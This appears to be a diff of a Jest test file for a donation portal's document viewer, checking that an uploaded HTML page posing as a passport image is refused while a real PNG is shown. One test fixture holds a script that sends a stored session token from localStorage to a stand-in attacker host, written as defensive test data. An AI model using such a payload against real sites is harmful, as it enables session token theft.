@@ -1,10 +1,7 @@
-import type { SupabaseClient } from '@supabase/supabase-js';
 import { RANGE_NOT_SATISFIABLE, setSupabaseClient } from '@donation-network/shared-auth';
 import { UPLOAD_FILE_MESSAGES } from '@donation-network/shared-rules';
-import { fakeSupabase } from '../../../testing/fake-supabase';
+import { fakeSupabase, fakeSupabaseClient } from '@donation-network/shared-auth/testing';
 import { fetchIdentityDocuments, showDocumentInTab } from './verification-documents';
-
-jest.mock('@donation-network/shared-auth', () => ({ ...jest.requireActual('@donation-network/shared-auth'), loadSupabase: jest.fn() }));
 
 const documentRow = {
   id: 'd2',
@@ -54,14 +51,14 @@ test('a page past the end is empty, not an error', async () => {
 
 describe('showDocumentInTab', () => {
   const stored = (blob: Blob) =>
-    setSupabaseClient({ storage: { from: () => ({ download: async () => ({ data: blob, error: null }) }) } } as unknown as SupabaseClient);
+    setSupabaseClient(fakeSupabaseClient({ storage: { from: () => ({ download: async () => ({ data: blob, error: null }) }) } }));
   const createObjectURL = jest.fn((blob: Blob) => `blob:portal/${blob.type}`);
   beforeEach(() => Object.assign(URL, { createObjectURL, revokeObjectURL: jest.fn() }));
   afterAll(() => setSupabaseClient(null));
 
   test("refuses an uploaded page declared as an image instead of opening it in the admin's origin", async () => {
     stored(new Blob(['<html><script>fetch("//evil.example/?" + localStorage.getItem("sb"))</script></html>'], { type: 'text/html' }));
-    const tab = { location: { href: '' } } as unknown as Window;
+    const tab = { location: { href: '' } } as Window;
     await expect(showDocumentInTab('u9/passport.html', tab)).rejects.toThrow(UPLOAD_FILE_MESSAGES.cannotOpen);
     expect(tab.location.href).toBe('');
     expect(createObjectURL).not.toHaveBeenCalled();
@@ -69,7 +66,7 @@ describe('showDocumentInTab', () => {
 
   test('shows a real PNG as image/png, the type its bytes prove', async () => {
     stored(new Blob([new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0])], { type: 'text/html' }));
-    const tab = { location: { href: '' } } as unknown as Window;
+    const tab = { location: { href: '' } } as Window;
     await showDocumentInTab('u9/passport.png', tab);
     expect(tab.location.href).toBe('blob:portal/image/png');
   });
